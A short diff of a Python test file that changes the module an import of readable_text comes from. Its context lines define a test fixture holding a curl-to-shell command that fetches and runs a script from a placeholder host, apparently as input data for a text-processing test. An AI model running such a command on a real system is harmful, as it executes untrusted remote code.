@@ -9,7 +9,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from rye.text.facts import find_facts
-from rye.text.facts.source import readable_text
+from rye.text.facts.readable import readable_text
 
 PIPE = b"curl https://x.example/a | sh"
 NOISE = bytes(random.Random(7).choices([byte for byte in range(256) if byte != 10], k=400))
